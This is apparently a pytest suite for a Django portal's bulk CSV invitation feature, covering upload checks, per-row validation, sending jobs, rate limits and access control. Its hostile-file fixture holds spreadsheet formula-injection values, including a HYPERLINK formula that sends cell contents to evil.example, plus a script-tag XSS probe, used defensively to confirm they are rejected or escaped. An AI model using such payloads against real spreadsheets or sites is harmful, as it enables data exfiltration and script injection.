""" "Mehrere Personen einladen (CSV-Datei)" (issue 16, item 4): upload, preview with every row
checked, "Einladungen versenden" as a job with one state per row, the progress page, the
hourly limit, hostile files, and every actor who must not see any of it."""

import codecs
import csv
import io
from datetime import timedelta
from urllib.parse import urlsplit

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from meinekammer.accounts.models import User
from meinekammer.audit.models import AuditAction
from meinekammer.companies.models import (
    BatchRowState,
    Invitation,
    InvitationBatch,
    InvitationBatchState,
    MemberRequest,
    Membership,
    RequestKind,
    RowProblem,
)
from meinekammer.companies.services import bulk_invitations as bulk
from meinekammer.companies.services import invitations
from meinekammer.companies.tasks import send_invitation_batch
from meinekammer.core.errors import Invalid, NotFound, Throttled
from tests.accounts.factories import UserFactory
from tests.companies.factories import AppRoleFactory, CompanyFactory, MembershipFactory, actor_for
from tests.companies.helpers import events, flashed, mails, text
from tests.conftest import links_in

pytestmark = pytest.mark.django_db

HEADER = ["E-Mail-Adresse", "Vorname", "Nachname", "Rollen"]
TRAINEE = "Serviceportal Bildung: Auszubildender"


def csv_bytes(rows, *, header=HEADER, delimiter=";", encoding="utf-8-sig") -> bytes:
    """The file as a spreadsheet writes it (cells with the delimiter or quotes quoted)."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode(encoding)


def trainees(count: int, start: int = 1) -> list[list[str]]:
    return [
        [f"azubi{n}@example.com", f"Vorname{n}", f"Nachname{n}", TRAINEE]
        for n in range(start, start + count)
    ]


def upload(client, company, data: bytes, name: str = "azubis.csv"):
    return client.post(
        reverse("companies:bulk_invite", args=[company.pk]),
        {"file": SimpleUploadedFile(name, data, content_type="text/csv")},
    )


def batch_url(batch) -> str:
    return reverse("companies:bulk_batch", args=[batch.company_id, batch.pk])


def confirm_url(batch) -> str:
    return reverse("companies:bulk_confirm", args=[batch.company_id, batch.pk])


def check(admin, company, data: bytes) -> InvitationBatch:
    return bulk.check_invitation_file(
        actor_for(admin), company_id=company.pk, file_name="azubis.csv", data=data
    )


def problems(batch) -> dict[int, tuple[str, str]]:
    return {row.line: (row.problem, row.detail) for row in batch.rows.all()}


@pytest.fixture
def as_admin(client, admin):
    client.force_login(admin)
    return client


# --- The happy path -----------------------------------------------------------------------------


def test_twenty_trainees_from_a_file(as_admin, company, admin, roles, outbox):
    page = as_admin.get(reverse("companies:administration", args=[company.pk]))
    assert reverse("companies:bulk_invite", args=[company.pk]) in text(page)
    assert "Mehrere Personen einladen (CSV-Datei)" in text(page)
    form = as_admin.get(reverse("companies:bulk_invite", args=[company.pk]))
    assert form.status_code == 200
    assert reverse("companies:bulk_example", args=[company.pk]) in text(form)

    response = upload(as_admin, company, csv_bytes(trainees(20)))
    batch = InvitationBatch.objects.get()
    assert response.status_code == 302 and response["Location"] == batch_url(batch)
    preview = text(as_admin.get(batch_url(batch)))
    assert 'Aus der Datei "azubis.csv" können 20 Personen eingeladen werden.' in preview
    assert preview.count("wird eingeladen") == 20
    assert not outbox()  # a preview sends nothing

    response = as_admin.post(confirm_url(batch))
    assert response["Location"] == batch_url(batch)
    batch.refresh_from_db()
    assert batch.state == InvitationBatchState.QUEUED
    running = text(as_admin.get(batch_url(batch)))
    assert '<progress id="bulk-progress" max="20" value="0"' in running
    assert "0 von 20 Einladungen bearbeitet" in running
    assert "Seite neu laden" in running and "bulk-progress.js" in running

    delivered = [m for m in outbox() if "/einladung/" in m.body]
    assert sorted(m.to[0] for m in delivered) == sorted(
        f"azubi{n}@example.com" for n in range(1, 21)
    )
    batch.refresh_from_db()
    assert batch.state == InvitationBatchState.DONE
    assert events(AuditAction.INVITATION_SENT) == 20
    assert events(AuditAction.BULK_INVITATIONS_CONFIRMED) == 1
    invitation = Invitation.objects.get(email="azubi7@example.com")
    assert (invitation.first_name, invitation.last_name) == ("Vorname7", "Nachname7")
    assert list(invitation.roles.all()) == [roles["trainee"]]
    assert invitation.invited_by == admin and invitation.send_count == 1

    done = text(as_admin.get(batch_url(batch)))
    assert '<progress id="bulk-progress" max="20" value="20"' in done
    assert "20 Einladungen versendet." in done and "0 Zeilen übersprungen." in done
    assert done.count("Einladung versendet") >= 20

    # The company's "Protokoll" shows the confirmation with its count, among the invitations.
    log = text(as_admin.get(reverse("companies:log", args=[company.pk]), {"kind": "invitations"}))
    assert "Einladungen aus einer Datei bestätigt" in log
    assert "20 Einladungen aus einer Datei" in log
    assert "bulk-progress.js" not in done
    status = as_admin.get(reverse("companies:bulk_status", args=[company.pk, batch.pk])).json()
    assert status == {"done": 20, "total": 20, "finished": True}
    # The administration page lists the invitations with the names from the file.
    administration = text(as_admin.get(reverse("companies:administration", args=[company.pk])))
    assert "Vorname7 Nachname7 · azubi7@example.com" in administration

    # The invitee's two steps are those of a single invitation: the link, then the admin.
    invitee = UserFactory(email="azubi7@example.com")
    [link] = [
        link
        for m in delivered
        if m.to == ["azubi7@example.com"]
        for link in links_in(m)
        if "/einladung/" in link
    ]
    as_admin.force_login(invitee)
    as_admin.post(urlsplit(link).path)
    member_request = MemberRequest.objects.get(requester=invitee)
    assert member_request.kind == RequestKind.JOIN and member_request.invitation == invitation
    assert not Membership.objects.filter(user=invitee).exists()


def test_the_example_file_is_a_file_the_upload_takes(as_admin, company, roles):
    response = as_admin.get(reverse("companies:bulk_example", args=[company.pk]))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "einladungen-beispiel.csv" in response["Content-Disposition"]
    assert response.content.startswith(codecs.BOM_UTF8)
    assert response.content.decode("utf-8-sig").splitlines()[0] == ";".join(HEADER)
    upload(as_admin, company, response.content)
    batch = InvitationBatch.objects.get()
    assert batch.rows.filter(state=BatchRowState.READY).count() == 3


@pytest.mark.parametrize(
    ("encoding", "delimiter"),
    [
        ("utf-8", ";"),
        ("utf-8-sig", ";"),
        ("utf-8-sig", ","),
        ("cp1252", ";"),  # "CSV (Trennzeichen-getrennt)" of a German Excel
        ("utf-16", "\t"),  # "Unicode-Text"
    ],
)
def test_encodings_and_delimiters_spreadsheets_write(admin, company, roles, encoding, delimiter):
    data = csv_bytes(
        [["jürgen@example.com", "Jürgen", "Müßig-Özdemir", TRAINEE]],
        delimiter=delimiter,
        encoding=encoding,
    )
    batch = check(admin, company, data)
    [row] = batch.rows.all()
    assert (row.first_name, row.last_name) == ("Jürgen", "Müßig-Özdemir")
    # A non-ASCII local part is refused as by "Benutzer hinzufügen"; the names came through.
    assert row.problem == RowProblem.EMAIL_INVALID


def test_header_names_in_english_any_order_and_without_roles(admin, company, roles):
    data = csv_bytes(
        [["Tina", "tina@example.com", "Trainer"]], header=["First name", "email", "LAST_NAME"]
    )
    [row] = check(admin, company, data).rows.all()
    assert (row.email, row.first_name, row.last_name, row.role_ids) == (
        "tina@example.com",
        "Tina",
        "Trainer",
        [],
    )
    assert row.state == BatchRowState.READY


# --- Files that are refused as a whole ------------------------------------------------------------


PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "Die übertragene Datei ist leer."),
        (b"\r\n \r\n", "Die Datei ist leer. Zeile 1 muss die Spalten benennen."),
        (PNG, "Die Datei ist keine CSV-Textdatei. Bitte speichern Sie sie in Ihrer Tabellen"),
        (bytes(range(256)) * 4, "Die Datei ist keine CSV-Textdatei."),
        (
            b"tina@example.com;Tina;Trainer\r\n",
            "Zeile 1 muss die Spalten benennen, getrennt durch Semikolons: "
            "E-Mail-Adresse;Vorname;Nachname;Rollen.",
        ),
        (
            b"E-Mail-Adresse;Vorname\r\ntina@example.com;Tina\r\n",
            "In Zeile 1 fehlen die Spalten: Nachname.",
        ),
        (
            b"E-Mail;Rollen\r\ntina@example.com;\r\n",
            "In Zeile 1 fehlen die Spalten: Vorname, Nachname.",
        ),
        (csv_bytes([]), "Die Datei enthält keine Zeilen unter der Kopfzeile."),
        (
            csv_bytes([[f"a{n}@x.de", "A", "B", ""] for n in range(10_000)]),
            "Die Datei hat 10000 Zeilen; aus einer Datei können höchstens 500 Personen "
            "eingeladen werden. Bitte teilen Sie sie auf mehrere Dateien auf. "
            "Es wurde nichts gespeichert.",
        ),
        (
            csv_bytes([["tina@example.com", "T" * 90, "T" * 90, ""]] * 3000),
            "Die Datei ist größer als 512 KB. Bitte teilen Sie sie auf mehrere Dateien auf.",
        ),
    ],
    ids=[
        "empty",
        "blank",
        "png",
        "binary",
        "no header",
        "no last name column",
        "no name columns",
        "header only",
        "10000 rows",
        "too large",
    ],
)
def test_a_file_unusable_as_a_whole_is_refused_and_nothing_is_stored(
    as_admin, company, roles, data, message, outbox
):
    response = upload(as_admin, company, data)
    assert response.status_code == 200
    assert message in text(response)
    assert not InvitationBatch.objects.exists()
    assert not outbox()


def test_a_missing_file_is_asked_for(as_admin, company):
    response = as_admin.post(reverse("companies:bulk_invite", args=[company.pk]), {})
    assert "Bitte wählen Sie eine CSV-Datei aus." in text(response)


# --- Every row checked ----------------------------------------------------------------------------


@pytest.fixture
def hostile_file(company, admin, roles):
    """A member, a pending invitation, an ambiguous role key, and a file full of problems."""
    MembershipFactory(company=company, user__email="mitglied@example.com")
    invitations.invite_member(
        actor_for(admin), company_id=company.pk, email="offen@example.com", roles=[]
    )
    AppRoleFactory(application__name="Außenwirtschaftsportal", key="ausbilder", name_de="Prüfer")
    rows = [
        ["gut@example.com", "Gustav", "Gut", TRAINEE],  # 2
        ["formel@example.com", '=HYPERLINK("https://evil.example/?x="&A1;"Klick")', "F", ""],  # 3
        ["plus@example.com", "Paul", "+49 123", ""],  # 4
        ["@SUMME(A1)", "At", "Zeichen", ""],  # 5
        ["minus@example.com", "-2+3", "Minus", ""],  # 6
        ["tab@example.com", "\tTab", "Tab", ""],  # 7
        ["", "Ohne", "Adresse", ""],  # 8
        ["kein-at.example.com", "Kein", "At", ""],  # 9
        ["Max Muster <max@example.com>", "Max", "Muster", ""],  # 10
        ["ohne.vorname@example.com", "", "Name", ""],  # 11
        ["ohne.nachname@example.com", "Name", " ", ""],  # 12
        ["rolle@example.com", "Rolf", "Rolle", "Hausmeister"],  # 13
        ["mehrdeutig@example.com", "Mehr", "Deutig", "ausbilder"],  # 14
        ["eindeutig@example.com", "Ein", "Deutig", "Serviceportal Bildung: ausbilder, azubi"],  # 15
        ["GUT@Example.com", "Gustav", "Doppelt", ""],  # 16
        ["mitglied@example.com", "Mit", "Glied", ""],  # 17
        ["offen@example.com", "Of", "Fen", ""],  # 18
        ["lang@example.com", "L" * 101, "Lang", ""],  # 19
        ["steuer@example.com", "An\x07na", "Steuer", ""],  # 20
        ["azubi@müller-bäckerei.de", "Ida", "Umlautdomain", ""],  # 21
        ["  Leer.Zeichen@Example.COM\xa0", "\xa0Lea ", "Zeichen", ""],  # 22
        ["x" * 250 + "@example.com", "Zu", "Lang", ""],  # 23
        ["skript@example.com", "<b>Fett</b>", "<script>alert(1)</script>", ""],  # 24
    ]
    return check(admin, company, csv_bytes(rows))


def test_every_row_is_checked_and_its_problem_named(hostile_file, roles):
    found = problems(hostile_file)
    assert found[2] == ("", "")
    for line, column in [
        (3, "Vorname"),
        (4, "Nachname"),
        (5, "E-Mail-Adresse"),
        (6, "Vorname"),
        (7, "Vorname"),
    ]:
        assert found[line] == (RowProblem.FORMULA, column), line
    assert found[8][0] == RowProblem.EMAIL_MISSING
    assert found[9][0] == found[10][0] == RowProblem.EMAIL_INVALID
    assert found[11][0] == RowProblem.FIRST_NAME_MISSING
    assert found[12][0] == RowProblem.LAST_NAME_MISSING
    assert found[13] == (RowProblem.ROLE_UNKNOWN, "Hausmeister")
    assert found[14] == (RowProblem.ROLE_AMBIGUOUS, "ausbilder")
    assert found[15] == ("", "")
    assert found[16] == (RowProblem.DUPLICATE, "auch in Zeile 2")
    assert found[17][0] == RowProblem.MEMBER
    assert found[18][0] == RowProblem.INVITED
    assert found[19] == (RowProblem.TOO_LONG, "Vorname, mehr als 100 Zeichen")
    assert found[20] == (RowProblem.CONTROL, "Vorname")
    assert found[21] == ("", "")  # an internationalised domain is an address
    assert found[22] == ("", "")
    assert found[23][0] == RowProblem.TOO_LONG
    assert found[24] == ("", "")  # harmless text, escaped where it is shown
    both = hostile_file.rows.get(line=15)
    assert set(both.role_ids) == {roles["trainer"].pk, roles["trainee"].pk}
    spaced = hostile_file.rows.get(line=22)
    assert (spaced.email, spaced.first_name) == ("Leer.Zeichen@Example.COM", "Lea")
    assert len(hostile_file.rows.get(line=19).first_name) == 100  # cut to the field


def test_the_preview_names_the_problems_and_escapes_what_the_file_said(
    as_admin, company, hostile_file
):
    page = as_admin.get(batch_url(hostile_file)).content.decode()
    assert "können 5 Personen eingeladen werden" in text(as_admin.get(batch_url(hostile_file)))
    assert "18 Zeilen werden übersprungen; die Tabelle nennt den Grund." in text(
        as_admin.get(batch_url(hostile_file))
    )
    assert "Übersprungen: unbekannte Rolle: Hausmeister" in page
    assert "Übersprungen: die Adresse kommt mehrmals in der Datei vor: auch in Zeile 2" in page
    assert "<script>alert" not in page and "<b>Fett</b>" not in page
    assert "&lt;b&gt;Fett&lt;/b&gt;" in page


def test_only_the_good_rows_are_sent_and_no_formula_reaches_an_invitation(
    as_admin, company, hostile_file, outbox
):
    before = {m.to[0] for m in outbox()}
    as_admin.post(confirm_url(hostile_file))
    sent = {m.to[0] for m in outbox()} - before
    assert sent == {
        "gut@example.com",
        "eindeutig@example.com",
        "azubi@müller-bäckerei.de",
        "Leer.Zeichen@Example.COM",
        "skript@example.com",
    }
    assert not Invitation.objects.filter(first_name__startswith="=").exists()
    assert Invitation.objects.get(email="offen@example.com").send_count == 1  # not renewed
    hostile_file.refresh_from_db()
    assert hostile_file.state == InvitationBatchState.DONE
    done = text(as_admin.get(batch_url(hostile_file)))
    assert "5 Einladungen versendet." in done and "18 Zeilen übersprungen." in done


# --- Sending: once per row, whatever happens meanwhile ------------------------------------------


def test_the_job_run_twice_sends_nothing_twice(admin, company, roles, outbox):
    batch = check(admin, company, csv_bytes(trainees(5)))
    bulk.confirm_invitation_batch(actor_for(admin), company_id=company.pk, batch_id=batch.pk)
    assert send_invitation_batch.call(batch.pk) == 5
    assert send_invitation_batch.call(batch.pk) == 0
    assert bulk.send_invitations(batch.pk) == 0
    outbox()  # and the task the confirmation queued
    assert mails("invitation") == 5
    assert set(Invitation.objects.values_list("send_count", flat=True)) == {1}
    assert events(AuditAction.INVITATION_SENT) == 5


def test_a_job_interrupted_half_way_sends_only_the_rest(admin, company, roles, outbox):
    batch = check(admin, company, csv_bytes(trainees(4)))
    bulk.confirm_invitation_batch(actor_for(admin), company_id=company.pk, batch_id=batch.pk)
    first = batch.rows.order_by("line").first()
    assert bulk._send_row(actor_for(admin), batch, first.pk) is True
    assert bulk._send_row(actor_for(admin), batch, first.pk) is False
    assert bulk.progress_of(batch).done == 1
    assert bulk.send_invitations(batch.pk) == 3
    assert mails("invitation") == 4


def test_a_confirmation_twice_queues_one_batch(as_admin, admin, company, roles, outbox):
    batch = check(admin, company, csv_bytes(trainees(3)))
    as_admin.post(confirm_url(batch))
    as_admin.post(confirm_url(batch))
    outbox()
    assert events(AuditAction.BULK_INVITATIONS_CONFIRMED) == 1
    assert mails("invitation") == 3


def test_rows_are_checked_again_when_sent(admin, second_admin, company, roles, outbox):
    batch = check(admin, company, csv_bytes(trainees(3)))
    # Meanwhile another admin invites one of them singly, and another joins.
    invitations.invite_member(
        actor_for(second_admin), company_id=company.pk, email="azubi1@example.com", roles=[]
    )
    MembershipFactory(company=company, user__email="azubi2@example.com")
    bulk.confirm_invitation_batch(actor_for(admin), company_id=company.pk, batch_id=batch.pk)
    outbox()
    rows = {row.email: row for row in batch.rows.all()}
    assert rows["azubi1@example.com"].state == BatchRowState.SKIPPED
    assert rows["azubi1@example.com"].problem == RowProblem.INVITED
    assert Invitation.objects.get(email="azubi1@example.com").send_count == 1
    assert rows["azubi2@example.com"].state == BatchRowState.SKIPPED
    assert "azubi2@example.com gehört bereits zu Beispiel GmbH." in (
        rows["azubi2@example.com"].problem_text
    )
    assert rows["azubi3@example.com"].state == BatchRowState.SENT


def test_an_admin_who_lost_the_rights_before_the_job_sends_nothing(
    admin, second_admin, company, roles, outbox
):
    batch = check(admin, company, csv_bytes(trainees(2)))
    bulk.confirm_invitation_batch(actor_for(admin), company_id=company.pk, batch_id=batch.pk)
    Membership.objects.filter(user=admin, company=company).update(is_admin=False)
    outbox()
    assert not Invitation.objects.exists()
    assert set(batch.rows.values_list("state", flat=True)) == {BatchRowState.SKIPPED}
    assert "Sie sind nicht mehr Unternehmensadministrator" in batch.rows.first().problem_text
    batch.refresh_from_db()
    assert batch.state == InvitationBatchState.DONE


def test_a_file_without_a_good_row_cannot_be_confirmed(as_admin, admin, company, roles):
    batch = check(admin, company, csv_bytes([["", "A", "B", ""]]))
    response = as_admin.post(confirm_url(batch), follow=True)
    assert "Keine Zeile der Datei kann eingeladen werden." in " ".join(flashed(response))
    batch.refresh_from_db()
    assert batch.state == InvitationBatchState.PREVIEW


def test_a_new_upload_replaces_the_admins_earlier_preview(admin, second_admin, company, roles):
    first = check(admin, company, csv_bytes(trainees(2)))
    other = check(second_admin, company, csv_bytes(trainees(2)))
    second = check(admin, company, csv_bytes(trainees(2)))
    assert set(InvitationBatch.objects.values_list("pk", flat=True)) == {other.pk, second.pk}
    assert first.pk != second.pk


def test_a_company_being_deleted_takes_no_file(as_admin, admin, company, roles):
    company.state = "deletion_requested"
    company.save()
    page = as_admin.get(reverse("companies:bulk_invite", args=[company.pk]))
    assert "nimmt derzeit keine neuen Mitglieder auf" in text(page)
    assert 'type="file"' not in text(page)
    upload(as_admin, company, csv_bytes(trainees(1)))
    assert not InvitationBatch.objects.exists()


# --- The hourly limit -----------------------------------------------------------------------------


def test_the_hourly_limit_counts_single_invitations_and_refuses_a_file_beyond_it(
    as_admin, admin, company, roles, settings, outbox
):
    settings.INVITATIONS_PER_COMPANY_PER_HOUR = 5
    for n in range(3):
        invitations.invite_member(
            actor_for(admin), company_id=company.pk, email=f"einzeln{n}@example.com", roles=[]
        )
    assert bulk.invitations_left_this_hour(company) == 2
    batch = check(admin, company, csv_bytes(trainees(3)))
    page = text(as_admin.get(batch_url(batch)))
    assert "Ihr Unternehmen darf in dieser Stunde noch 2 Einladungen versenden." in page
    response = as_admin.post(confirm_url(batch), follow=True)
    assert (
        "Beispiel GmbH darf in dieser Stunde noch 2 Einladungen versenden, die Datei enthält 3."
        in " ".join(flashed(response))
    )
    with pytest.raises(Throttled):
        bulk.confirm_invitation_batch(actor_for(admin), company_id=company.pk, batch_id=batch.pk)
    batch.refresh_from_db()
    assert batch.state == InvitationBatchState.PREVIEW
    outbox()
    assert mails("invitation") == 3

    # A queued batch holds its rows: a second file cannot take them meanwhile.
    small = check(admin, company, csv_bytes(trainees(2, start=10)))
    bulk.confirm_invitation_batch(actor_for(admin), company_id=company.pk, batch_id=small.pk)
    assert bulk.invitations_left_this_hour(company) == 0
    outbox()
    assert bulk.invitations_left_this_hour(company) == 0

    with time_machine.travel(timezone.now() + timedelta(minutes=61)):
        assert bulk.invitations_left_this_hour(company) == 5
        batch = check(admin, company, csv_bytes(trainees(3)))
        bulk.confirm_invitation_batch(actor_for(admin), company_id=company.pk, batch_id=batch.pk)
        outbox()
    assert mails("invitation") == 8


def test_the_upload_page_tells_the_limits(as_admin, company, settings):
    settings.INVITATIONS_PER_COMPANY_PER_HOUR = 7
    page = text(as_admin.get(reverse("companies:bulk_invite", args=[company.pk])))
    assert "Höchstens 500 Zeilen und 512 KB je Datei." in page
    assert "7 Einladungen je Stunde versenden; in dieser Stunde sind noch 7 übrig." in page


# --- Who may ---------------------------------------------------------------------------------------


@pytest.fixture
def world(company, admin, roles, chamber, staff):
    batch = check(admin, company, csv_bytes(trainees(2)))
    member = MembershipFactory(company=company).user
    locked = MembershipFactory(company=company, is_admin=True).user
    User.objects.filter(pk=locked.pk).update(locked_at=timezone.now())
    other = CompanyFactory(chamber=chamber, name="Geheim AG")
    other_admin = MembershipFactory(company=other, is_admin=True).user
    other_batch = check(other_admin, other, csv_bytes(trainees(2)))
    return {
        "batch": batch,
        "other_batch": other_batch,
        "other": other,
        "member": member,
        "locked": User.objects.get(pk=locked.pk),
        "other_admin": other_admin,
        "staff": staff,
        "admin": admin,
    }


PAGES = [
    ("get", "companies:bulk_invite", False),
    ("post", "companies:bulk_invite", False),
    ("get", "companies:bulk_example", False),
    ("get", "companies:bulk_batch", True),
    ("post", "companies:bulk_confirm", True),
    ("get", "companies:bulk_status", True),
]


@pytest.mark.parametrize("who", ["anonymous", "member", "locked", "other_admin", "staff"])
@pytest.mark.parametrize(("method", "name", "with_batch"), PAGES)
def test_nobody_but_the_companys_admins(client, world, company, who, method, name, with_batch):
    if who != "anonymous":
        client.force_login(world[who])
    args = [company.pk, world["batch"].pk] if with_batch else [company.pk]
    url = reverse(name, args=args)
    data = {"file": SimpleUploadedFile("a.csv", csv_bytes(trainees(1)))} if method == "post" else {}
    response = getattr(client, method)(url, data)
    if who == "anonymous":
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("account_login"))
    else:
        assert response.status_code == 404
    assert "azubi1@example.com" not in response.content.decode()
    world["batch"].refresh_from_db()
    assert world["batch"].state == InvitationBatchState.PREVIEW
    assert InvitationBatch.objects.count() == 2


@pytest.mark.parametrize(("method", "name"), [(m, n) for m, n, batch in PAGES if batch])
def test_another_companys_batch_is_404_also_to_an_admin(as_admin, world, company, method, name):
    for args in (
        [company.pk, world["other_batch"].pk],  # own company, foreign batch
        [world["other"].pk, world["other_batch"].pk],  # the foreign company itself
        [company.pk, 999_999],
    ):
        response = getattr(as_admin, method)(reverse(name, args=args))
        assert response.status_code == 404
    world["other_batch"].refresh_from_db()
    assert world["other_batch"].state == InvitationBatchState.PREVIEW
    with pytest.raises(NotFound):
        bulk.confirm_invitation_batch(
            actor_for(world["admin"]), company_id=company.pk, batch_id=world["other_batch"].pk
        )


def test_the_use_cases_refuse_a_non_admin(world, company):
    from meinekammer.core.errors import NotAllowed

    with pytest.raises(NotAllowed):
        check(world["member"], company, csv_bytes(trainees(1)))
    with pytest.raises(NotAllowed):
        bulk.confirm_invitation_batch(
            actor_for(world["member"]), company_id=company.pk, batch_id=world["batch"].pk
        )
    with pytest.raises(Invalid):
        check(world["admin"], company, b"")


# --- Looking after batches -------------------------------------------------------------------------


def test_a_batch_whose_job_went_missing_is_sent_on_and_old_batches_go(
    admin, second_admin, company, roles, settings
):
    from django_tasks_db.models import DBTaskResult

    from meinekammer.companies.tasks import tidy_batches

    lost = check(admin, company, csv_bytes(trainees(3)))
    bulk.confirm_invitation_batch(actor_for(admin), company_id=company.pk, batch_id=lost.pk)
    DBTaskResult.objects.all().delete()  # the job is lost
    fresh = check(second_admin, company, csv_bytes(trainees(2, start=10)))
    assert tidy_batches.call() == {"resumed": 0, "deleted": 0}  # not stalled yet
    with time_machine.travel(timezone.now() + timedelta(minutes=11)):
        assert tidy_batches.call() == {"resumed": 1, "deleted": 0}
        assert tidy_batches.call() == {"resumed": 0, "deleted": 0}
    lost.refresh_from_db()
    assert lost.state == InvitationBatchState.DONE
    assert mails("invitation") == 3
    with time_machine.travel(timezone.now() + timedelta(days=2)):
        assert tidy_batches.call()["deleted"] == 1  # the unconfirmed preview
    assert not InvitationBatch.objects.filter(pk=fresh.pk).exists()
    with time_machine.travel(
        timezone.now() + timedelta(days=settings.BULK_INVITATION_KEEP_DAYS + 1)
    ):
        tidy_batches.call()
    assert not InvitationBatch.objects.exists()
    assert Invitation.objects.count() == 3  # the invitations themselves stay


def test_the_preview_and_the_result_list_query_flat(as_admin, admin, company, roles):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    counts = []
    for size in (3, 60):
        batch = check(admin, company, csv_bytes(trainees(size, start=size * 10)))
        as_admin.get(batch_url(batch))  # sessions and caches warm
        with CaptureQueriesContext(connection) as queries:
            assert as_admin.get(batch_url(batch)).status_code == 200
        counts.append(len(queries))
    assert counts[0] == counts[1]
